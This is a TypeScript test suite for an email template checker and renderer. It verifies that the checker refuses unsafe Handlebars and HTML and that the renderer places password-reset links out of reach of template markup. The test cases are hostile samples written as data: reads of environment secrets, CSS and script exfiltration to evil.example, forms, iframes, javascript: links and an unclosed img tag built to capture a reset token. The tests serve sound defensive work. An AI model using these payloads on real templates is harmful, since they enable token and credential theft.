import { DEFAULT_TEMPLATES } from './default-templates';
import { ACCOUNT_LINKS, MESSAGE_VARIABLES, MessageKind, sampleData } from './message-kinds';
import { accountLinkOf, checkTemplate, renderMessage, templateProblems, TemplateRenderError } from './template-renderer';

const kind = MessageKind.ACCOUNT_CREATED;

describe('checkTemplate: an allow-list, checked when a template is saved', () => {
  it.each([
    ['prototype access', '{{constructor}}'],
    ['prototype access through a variable', '{{recipient.constructor.name}}'],
    ['__proto__', '{{recipient.__proto__.polluted}}'],
    ['this', '{{this}}'],
    ['@root data', '{{@root.recipient.email}}'],
    ['a parent scope', '{{../recipient.email}}'],
    ['a segment literal', '{{[constructor]}}'],
    ['a string literal', '{{"constructor"}}'],
    ['a number literal', '{{42}}'],
    ['the environment', '{{process.env.AUTH_TOKEN_SECRET}}'],
    ['the lookup helper', '{{lookup recipient "email"}}'],
    ['the log helper', '{{log recipient}}'],
    ['a hash argument', '{{recipient.email foo=1}}'],
    ['a sub-expression', '{{(lookup recipient "email")}}'],
    ['a sub-expression in a condition', '{{#if (lookup recipient "email")}}x{{/if}}'],
    ['two conditions', '{{#if recipient.email recipient.firstName}}x{{/if}}'],
    ['a condition with a hash', '{{#if recipient.email includeZero=true}}x{{/if}}'],
    ['each', '{{#each recipient}}{{this}}{{/each}}'],
    ['with', '{{#with recipient}}{{email}}{{/with}}'],
    ['a section', '{{#recipient}}{{email}}{{/recipient}}'],
    ['an inverted section', '{{^recipient}}x{{/recipient}}'],
    ['a raw block', '{{{{raw}}}}{{recipient.email}}{{{{/raw}}}}'],
    ['a partial', '{{> footer}}'],
    ['a partial block', '{{#> layout}}x{{/layout}}'],
    ['an inline partial (a decorator block)', '{{#*inline "x"}}y{{/inline}}'],
    ['a decorator', '{{* decorator}}'],
    ['the account link as a variable', '{{setPasswordUrl}}'],
    ['a made-up link variable', '{{accountLink.url}}'],
  ])('refuses %s', (_, source) => {
    for (const part of ['subject', 'text', 'html'] as const) {
      expect(checkTemplate(kind, part, source)).not.toEqual([]);
    }
  });

  it.each([
    ['a style sheet that reads links', '<style>a[href*="token=a"]{background:url(https://evil.example/a)}</style>'],
    ['a linked style sheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
    ['svg with style', '<svg><style>a{}</style></svg>'],
    ['a comment', '<!-- {{recipient.email}} -->'],
    ['a tag named by a variable', '<{{recipient.firstName}} href="x">'],
    ['a tag cut by a variable', '<sty{{recipient.firstName}}>'],
    ['a closing tag named by a variable', '</{{recipient.firstName}}>'],
    ['raw text: textarea', '<textarea>'],
    ['raw text: title', '<title>x</title>'],
    ['raw text: plaintext', '<plaintext>'],
    ['script', '<script>fetch("https://evil.example")</script>'],
    ['a form', '<form action="https://evil.example"><button>Go</button></form>'],
    ['a base address', '<base href="https://evil.example/">'],
    ['a meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
    ['an iframe', '<iframe src="https://evil.example"></iframe>'],
    ['a doctype', '<!doctype html>'],
    ['raw output', '<p>{{{recipient.firstName}}}</p>'],
  ])('refuses %s in HTML', (_, source) => {
    expect(checkTemplate(kind, 'html', source)).not.toEqual([]);
  });

  it.each([
    ['a box positioned over the account link', '<div style="position:fixed;top:0;left:0;z-index:9999">Accept</div>'],
    ['a box shifted up over it', '<div style="margin-top:-400px">Accept</div>'],
    ['a negative shift in a shorthand', '<div style="margin:0 0 0 -.5em">x</div>'],
    ['a transform', '<p style="transform:translateY(-100px)">x</p>'],
    ['a background image', '<p style="background:url(https://evil.example/x)">x</p>'],
    ['url() in an allowed property', '<p style="background-color:url(https://evil.example/x)">x</p>'],
    ['a CSS escape', '<p style="color:\\72 ed">x</p>'],
    ['a variable in a style', '<p style="color:{{recipient.firstName}}">x</p>'],
    ['a style only in one branch', '<p {{#if message}}style="position:absolute"{{/if}}>x</p>'],
    ['an event handler', '<img src="https://example.test/x.png" onerror="alert(1)">'],
    ['a javascript: link', '<a href="javascript:alert(1)">x</a>'],
    ['a data: image', '<img src="data:image/png;base64,AAAA">'],
    ['a link from a text variable', '<a href="{{recipient.email}}">x</a>'],
    ['an unquoted variable', '<a href=https://example.test/{{product.name}}>x</a>'],
    ['an attribute named by a variable', '<p {{recipient.firstName}}="x">x</p>'],
    ['an attribute outside the allow-list', '<p id="x" class="y">x</p>'],
    ['a quotation mark left open', '<img src="https://evil.example/?x='],
    ['a tag left open', '<img src="https://example.test/x.png"'],
  ])('refuses %s in HTML', (_, source) => {
    expect(checkTemplate(MessageKind.INVITATION, 'html', source)).not.toEqual([]);
  });

  it('accepts styles, links and images written plainly, and a link variable as an address', () => {
    const source = `<p style="color:#123;font-family:Arial, sans-serif;margin:0 0 12px;border:1px solid rgb(0, 0, 0)">Hi</p>
<table cellpadding="4" role="presentation"><tr><td colspan="2" style="padding:4px;text-align:right">x</td></tr></table>
<a href="https://example.test/help?q=1" target="_blank" title="Help">Help</a> <a href="mailto:help@example.test">Mail</a>
<a href="{{signInUrl}}">Sign in</a> <img src="https://example.test/logo.png" alt="logo" width="120" title="a < b">`;
    expect(checkTemplate(MessageKind.REGISTRATION_CONFIRMED, 'html', source)).toEqual([]);
  });

  it('accepts formatting, lists, tables, links, images and conditions', () => {
    const source = `<h1 style="color:#123">Hi {{recipient.firstName}}</h1>
<p>Dear <strong>{{recipient.firstName}}</strong> &amp; <em>co</em><br/></p>
<table><tr><td><a href="https://example.test/help">Help</a></td></tr></table>
<ul><li>{{#if product.name}}{{product.name}}{{else}}—{{/if}}</li></ul>
<img src="https://example.test/logo.png" alt="logo">{{! a note for the admins }}
{{#unless expiresAt}}<p>No end</p>{{/unless}} 3 < 4`;
    expect(checkTemplate(kind, 'html', source)).toEqual([]);
  });

  it('accepts every default text, and no kind offers its account link as a variable', () => {
    for (const k of Object.values(MessageKind)) {
      expect(templateProblems(k, DEFAULT_TEMPLATES[k])).toEqual([]);
      expect(Object.keys(MESSAGE_VARIABLES[k]).filter((name) => /url$/i.test(name) && name !== 'signInUrl')).toEqual([]);
    }
  });
});

describe('renderMessage: the account link is Tessera’s, above the template', () => {
  const link = { label: 'Set your password', url: 'https://tessera.example/set-password?token=SECRET-TOKEN' };
  // A template that leaves an attribute open, as an exfiltration attempt would.
  const hostile = { subject: 'Hi', html: '<p>Hello</p><img src="https://evil.example/?x=', text: 'Hello' };

  it('puts the link before the template in both bodies, so open markup cannot swallow it', () => {
    const rendered = renderMessage(hostile, sampleData(kind), link);
    const token = rendered.html.indexOf('SECRET-TOKEN');
    expect(token).toBeGreaterThan(0);
    expect(rendered.html.indexOf('SECRET-TOKEN', token + 1)).toBe(-1);
    expect(token).toBeLessThan(rendered.html.indexOf('<p>Hello</p>'));
    expect(rendered.text.startsWith(`Set your password:\n${link.url}\n`)).toBe(true);
    expect(rendered.text.trimEnd().endsWith('Hello')).toBe(true);
  });

  it('renders no block for a message without a link', () => {
    const rendered = renderMessage(DEFAULT_TEMPLATES.CODE_SENT, sampleData(MessageKind.CODE_SENT));
    expect(rendered.html).not.toContain('<table role="presentation"');
    expect(rendered.text.startsWith('Hello Ada,')).toBe(true);
  });

  it('takes the one link of a kind that has one, and refuses secrets a kind may not carry', () => {
    expect(accountLinkOf(MessageKind.INVITATION, { acceptUrl: 'https://x/accept?token=t' })).toEqual({
      label: ACCOUNT_LINKS.INVITATION!.label,
      url: 'https://x/accept?token=t',
    });
    expect(accountLinkOf(MessageKind.CODE_SENT, {})).toBeUndefined();
    expect(() => accountLinkOf(MessageKind.CODE_SENT, { url: 'https://x' })).toThrow(TemplateRenderError);
    expect(() => accountLinkOf(MessageKind.SET_PASSWORD, { a: 'https://x', b: 'https://y' })).toThrow(TemplateRenderError);
  });
});
